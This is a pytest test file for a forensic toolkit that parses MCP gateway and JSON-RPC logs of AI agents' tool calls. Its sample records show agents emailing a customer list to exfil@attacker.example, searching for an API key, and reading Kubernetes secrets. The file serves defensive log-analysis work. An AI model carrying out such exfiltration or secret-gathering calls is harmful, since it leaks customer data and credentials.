"""MCP loader and the tool_calls view: gateway logs (with and without ids, both schemas), bare JSON-RPC."""

from __future__ import annotations

import hashlib
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

import irkit
from irkit import loaders
from irkit.evidence import discover, sample_records
from irkit.loaders import mcp
from tests.loaders.helpers import (
    SAMPLES,
    blank_row,
    conformance_corpus,
    load,
    one,
    quarantine,
    res,
    rows,
    subset,
)

SAMPLE_DIR = SAMPLES / "mcp"
SESSION_A = "8f14e45f-ceea-4e7a-9b1c-2d3e4f5a6b7c"
SESSION_B = "c9f0f895-fb98-4b9e-8a7d-6c5b4a392817"


def t(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def line(name: str, number: int) -> str:
    return (SAMPLE_DIR / name).read_text().splitlines()[number - 1]


def uid(name: str, number: int) -> str:
    return hashlib.sha256(line(name, number).encode()).hexdigest()


def tool_calls(case: irkit.Case) -> list[dict[str, Any]]:
    return case.sql("SELECT * FROM tool_calls ORDER BY time, call_uid").to_dicts()


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory):
    return load(tmp_path_factory.mktemp("mcp"), SAMPLE_DIR)


def test_every_message_is_accounted_for(loaded) -> None:
    case, summary = loaded
    assert (summary.read, summary.loaded, summary.quarantined, summary.duplicates) == (32, 29, 3, 0)
    assert {f.source for f in summary.files} == {"mcp"}
    reasons = [(Path(q["evidence_file"]).name, q["evidence_path"], q["reason"]) for q in quarantine(case)]
    assert reasons[:2] == [
        ("bare-jsonrpc.json", "$[0]", "no timestamp: a bare JSON-RPC message"),
        ("bare-jsonrpc.json", "$[1]", "no timestamp: a bare JSON-RPC message"),
    ]
    assert reasons[2][:2] == ("gateway-v2.jsonl", "$") and reasons[2][2].startswith("not valid JSON: ")
    assert len(reasons) == 3


CRM = {"target_system": "mcp:crm", "session_uid": SESSION_A, "actor_uid": "claude-code", "actor_type": "agent",
       "actor_name": "claude-code", "user_agent": "claude-code/2.1.4", "src_ip": None, "credential_uid": None,
       "delegator_uid": None, "source": "mcp"}

EXPECTED = {
    "initialize names the client": (
        ("gateway-sessions.jsonl", 1),
        {**CRM, "time": t("2026-03-02T09:40:00.101234"), "class_name": "api_activity", "operation": "initialize",
         "status": "unknown", "status_detail": None, "target_uid": "crm", "target_type": "mcp_server",
         "resources": [{"uid": "crm", "type": "mcp_server", "system": "mcp:crm"},
                       {"uid": "0", "type": "jsonrpc_id", "system": "mcp:crm"}], "tool_name": None},
    ),
    "tools/list result lists every tool": (
        ("gateway-sessions.jsonl", 5),
        {**CRM, "class_name": "api_activity", "operation": "tools/list response", "status": "success",
         "target_uid": "crm", "target_type": "mcp_server",
         "resources": [{"uid": "crm", "type": "mcp_server", "system": "mcp:crm"},
                       {"uid": "query_database", "type": "mcp_tool", "system": "mcp:crm"},
                       {"uid": "send_email", "type": "mcp_tool", "system": "mcp:crm"},
                       {"uid": "1", "type": "jsonrpc_id", "system": "mcp:crm"}]},
    ),
    "tools/call request": (
        ("gateway-sessions.jsonl", 11),
        {**CRM, "time": t("2026-03-02T09:42:00"), "class_name": "tool_call", "operation": "tools/call",
         "status": "unknown", "status_detail": None, "target_uid": "send_email", "target_type": "mcp_tool",
         "target_name": "send_email", "tool_name": "send_email",
         "resources": [{"uid": "send_email", "type": "mcp_tool", "system": "mcp:crm"},
                       {"uid": "3", "type": "jsonrpc_id", "system": "mcp:crm"},
                       {"uid": '{"to":"exfil@attacker.example","body":"customer list attached"}', "type": "tool_arguments",
                        "system": "mcp:crm"}],
         "trace_uid": None, "parent_span_uid": None},
    ),
    "tool result with isError": (
        ("gateway-sessions.jsonl", 14),
        {**CRM, "class_name": "tool_call", "operation": "tools/call response", "status": "failure",
         "status_detail": "SMTP relay refused: recipient domain not allowed", "target_uid": "crm",
         "target_type": "mcp_server", "tool_name": None},
    ),
    "JSON-RPC error response": (
        ("gateway-sessions.jsonl", 13),
        {**CRM, "class_name": "api_activity", "operation": "response", "status": "failure",
         "status_detail": "-32602: Unknown tool: delete_records"},
    ),
    "a second session keeps its own client": (
        ("gateway-sessions.jsonl", 10),
        {"session_uid": SESSION_B, "actor_uid": "cursor", "user_agent": "cursor/1.7.0", "operation": "tools/call",
         "tool_name": "query_database"},
    ),
    "gateway withholding an item (DIFC_FILTERED)": (
        ("gateway-no-ids.jsonl", 8),
        {"time": t("2026-03-03T14:01:20.310"), "class_name": "authorization", "operation": "difc_filtered",
         "status": "failure", "status_detail": "integrity: author association NONE below the required minimum",
         "actor_uid": None, "actor_type": None, "session_uid": None, "target_uid": "list_issues",
         "target_type": "mcp_tool", "target_system": "mcp:github", "tool_name": "list_issues",
         "resources": [{"uid": "list_issues", "type": "mcp_tool", "system": "mcp:github"},
                       {"uid": "https://github.com/acme/payments/issues/412", "type": "url", "system": "github"},
                       {"uid": "drive-by-user", "type": "github_user", "system": "github"}]},
    ),
    "2026 stateless request: client and trace from _meta": (
        ("gateway-v2.jsonl", 1),
        {"time": t("2026-03-04T08:00:00"), "class_name": "tool_call", "operation": "tools/call",
         "status": "unknown", "actor_uid": "research-agent", "actor_type": "agent",
         "user_agent": "research-agent/0.4.1", "target_uid": "web_search", "target_system": "mcp:search",
         "tool_name": "web_search", "trace_uid": "4bf92f3577b34da6a3ce929d0e0e4736", "span_uid": None,
         "parent_span_uid": "00f067aa0ba902b7"},
    ),
    "gateway-side failure": (
        ("gateway-v2.jsonl", 2),
        {"class_name": "api_activity", "operation": "response", "status": "failure",
         "status_detail": "context deadline exceeded", "actor_uid": "research-agent", "target_uid": "search",
         "target_type": "mcp_server"},
    ),
}


@pytest.mark.parametrize("case_name", list(EXPECTED))
def test_one_whole_row_per_case(loaded, case_name: str) -> None:
    case, _ = loaded
    (name, number), expected = EXPECTED[case_name]
    row = one(case, "event_uid = $u", u=uid(name, number))
    assert row["raw"] == line(name, number)
    assert row["evidence_offset"] == number
    assert subset(row, expected) == expected


def test_tool_calls_pairs_each_call_once(loaded) -> None:
    case, _ = loaded
    calls = tool_calls(case)
    assert len(calls) == len(rows(case, "operation = 'tools/call'")) == 9
    got = {(c["tool_name"], c["session_uid"] or c["server"], c["request_offset"]): c for c in calls}
    S = str(SAMPLE_DIR) + "/"

    def expect(key: tuple, request: tuple[str, int], response: tuple[str, int] | None, **values: Any) -> None:
        row = got[key]
        wanted = {
            "call_uid": uid(*request), "response_uid": uid(*response) if response else None,
            "evidence_files": [S + request[0]], "request_offset": request[1],
            "response_offset": response[1] if response else None, **values,
        }
        assert subset(row, wanted) == wanted, key

    expect(("query_database", SESSION_A, 6), ("gateway-sessions.jsonl", 6), ("gateway-sessions.jsonl", 7),
           time=t("2026-03-02T09:41:05.000100"), end_time=t("2026-03-02T09:41:05.250600"), latency_ms=250.5,
           session_uid=SESSION_A, actor_uid="claude-code", server="mcp:crm",
           arguments='{"sql":"SELECT email FROM customers LIMIT 50"}', status="success", status_detail=None,
           paired_by="id")
    # the same id 2 in another session pairs within that session
    expect(("query_database", SESSION_B, 10), ("gateway-sessions.jsonl", 10), ("gateway-sessions.jsonl", 15),
           actor_uid="cursor", status="success", paired_by="id", latency_ms=100.0)
    # answered out of order: the id decides, not the position
    expect(("send_email", SESSION_A, 11), ("gateway-sessions.jsonl", 11), ("gateway-sessions.jsonl", 14),
           arguments='{"to":"exfil@attacker.example","body":"customer list attached"}', status="failure",
           status_detail="SMTP relay refused: recipient domain not allowed", paired_by="id", latency_ms=1400.0)
    expect(("delete_records", SESSION_A, 12), ("gateway-sessions.jsonl", 12), ("gateway-sessions.jsonl", 13),
           status="failure", status_detail="-32602: Unknown tool: delete_records", paired_by="id")
    expect(("query_database", SESSION_A, 16), ("gateway-sessions.jsonl", 16), None,
           end_time=None, latency_ms=None, status="no_response", status_detail=None, paired_by=None)
    # no ids, no session: the n-th request of a server takes its n-th response (tools/list counts)
    expect(("get_file_contents", "mcp:github", 5), ("gateway-no-ids.jsonl", 5), ("gateway-no-ids.jsonl", 6),
           session_uid=None, actor_uid=None, server="mcp:github", status="failure",
           status_detail="failed to get file contents: 404 Not Found", paired_by="order", latency_ms=420.0)
    expect(("list_issues", "mcp:github", 7), ("gateway-no-ids.jsonl", 7), ("gateway-no-ids.jsonl", 9),
           status="success", paired_by="order")
    expect(("create_issue", "mcp:safeoutputs", 10), ("gateway-no-ids.jsonl", 10), ("gateway-no-ids.jsonl", 11),
           server="mcp:safeoutputs", status="success", paired_by="order")
    # a gateway failure without a payload (no id) still answers the call that had one
    expect(("web_search", "mcp:search", 1), ("gateway-v2.jsonl", 1), ("gateway-v2.jsonl", 2),
           actor_uid="research-agent", status="failure", status_detail="context deadline exceeded",
           paired_by="order", arguments='{"q":"acme payments api key"}')


CLOUDTRAIL = {"eventVersion": "1.09", "eventSource": "s3.amazonaws.com", "eventName": "GetObject",
              "awsRegion": "us-east-1", "eventTime": "2026-03-02T09:00:00Z", "userIdentity": {"type": "IAMUser"}}


def test_sniff_claims_its_shapes_only() -> None:
    for path in SAMPLE_DIR.iterdir():
        records = sample_records(discover([path])[0])
        assert mcp.sniff(records), path.name
        assert loaders.detect(records).name == "mcp", path.name
    assert not mcp.sniff([CLOUDTRAIL])
    assert not mcp.sniff([{"jsonrpc": "2.0", "id": 1, "method": "eth_getBalance", "params": []}])


def test_conformance_records_all_load_or_say_why(tmp_path: Path) -> None:
    case, summary = load(tmp_path, conformance_corpus("mcp"))
    assert {f.source for f in summary.files} == {"mcp"}
    gateway = [f for f in summary.files if f.path.endswith(".jsonl")]
    assert all(f.loaded == f.read for f in gateway)
    # the specification's examples are bare messages: no time to place them on a timeline
    assert {q["reason"] for q in quarantine(case)} == {"no timestamp: a bare JSON-RPC message"}
    assert summary.quarantined == sum(f.read for f in summary.files if not f.path.endswith(".jsonl"))
    calls = tool_calls(case)
    assert calls and all(c["response_uid"] is not None for c in calls)
    assert json.loads(calls[0]["arguments"])  # arguments survive as JSON text


# -- a bare JSON-RPC log stamped by its logger: the server named by its own initialize response ---------
BARE = SAMPLES / "semconv" / "mcp_bare_stamped.jsonl"
K8S = "mcp:k8s-mcp"


def bare_row(number: int, **fields: Any) -> dict[str, Any]:
    text = BARE.read_text().splitlines()[number - 1]
    row = {**blank_row(), "event_uid": hashlib.sha256(text.encode()).hexdigest(), "source": "mcp",
           "actor_uid": "ops-runtime", "actor_type": "agent", "actor_name": "ops-runtime", "user_agent": "ops-runtime/2.0.1",
           "target_uid": "k8s-mcp", "target_type": "mcp_server", "target_name": "k8s-mcp", "target_system": K8S,
           "evidence_file": str(BARE), "evidence_offset": number, "evidence_path": "$", "activity": "other"}
    row.update(fields)
    return row


BARE_ROWS = [
    bare_row(1, time=t("2025-03-05T10:01:34.990"), end_time=t("2025-03-05T10:01:34.995"), class_name="api_activity",
             operation="initialize", status="unknown",
             resources=[res("k8s-mcp", "mcp_server", K8S), res("1", "jsonrpc_id", K8S)]),
    bare_row(2, time=t("2025-03-05T10:01:34.995"), class_name="api_activity", operation="initialize response",
             status="success", resources=[res("k8s-mcp", "mcp_server", K8S), res("1", "jsonrpc_id", K8S)]),
    # the caller's W3C traceparent: its trace, and its span (the MCP client span that sent it) as parent
    bare_row(3, time=t("2025-03-05T10:01:35.010"), end_time=t("2025-03-05T10:01:36.200"), class_name="tool_call",
             operation="tools/call", activity="invoke", status="unknown", target_uid="kubectl", target_type="mcp_tool",
             target_name="kubectl", tool_name="kubectl", trace_uid="5b8efff798038103d269b633813fc60c",
             parent_span_uid="eee19b7ec3c1b178",
             resources=[res("kubectl", "mcp_tool", K8S), res("2", "jsonrpc_id", K8S),
                        res('{"command":"get secrets -n payments"}', "tool_arguments", K8S),
                        res("rojo=00f067aa0ba902b7", "tracestate", K8S)]),
    bare_row(4, time=t("2025-03-05T10:01:36.200"), class_name="tool_call", operation="tools/call response",
             activity="invoke", status="success", resources=[res("k8s-mcp", "mcp_server", K8S), res("2", "jsonrpc_id", K8S),
                                                             res("3 secrets", "tool_result", K8S)]),
    # an all-zero trace id is no trace context; a string id is kept as text; no response: no end
    bare_row(5, time=t("2025-03-05T10:01:40"), class_name="tool_call", operation="tools/call", activity="invoke",
             status="unknown", target_uid="kubectl", target_type="mcp_tool", target_name="kubectl", tool_name="kubectl",
             resources=[res("kubectl", "mcp_tool", K8S), res("req-3", "jsonrpc_id", K8S),
                        res('{"command":"get pods"}', "tool_arguments", K8S)]),
]


def test_bare_stamped_log_whole_rows_and_tool_calls(tmp_path: Path) -> None:
    case, summary = load(tmp_path, BARE)
    assert (summary.read, summary.loaded, summary.quarantined) == (5, 5, 0)
    assert [subset(r, BARE_ROWS[0]) for r in rows(case)] == BARE_ROWS
    calls = [subset(c, {"tool_name": 0, "server": 0, "latency_ms": 0, "status": 0, "paired_by": 0, "trace_uid": 0,
                        "caller_span_uid": 0, "arguments": 0}) for c in tool_calls(case)]
    assert calls == [
        {"tool_name": "kubectl", "server": K8S, "latency_ms": 1190.0, "status": "success", "paired_by": "id",
         "trace_uid": "5b8efff798038103d269b633813fc60c", "caller_span_uid": "eee19b7ec3c1b178",
         "arguments": '{"command":"get secrets -n payments"}'},
        {"tool_name": "kubectl", "server": K8S, "latency_ms": None, "status": "no_response", "paired_by": None,
         "trace_uid": None, "caller_span_uid": None, "arguments": '{"command":"get pods"}'},
    ]
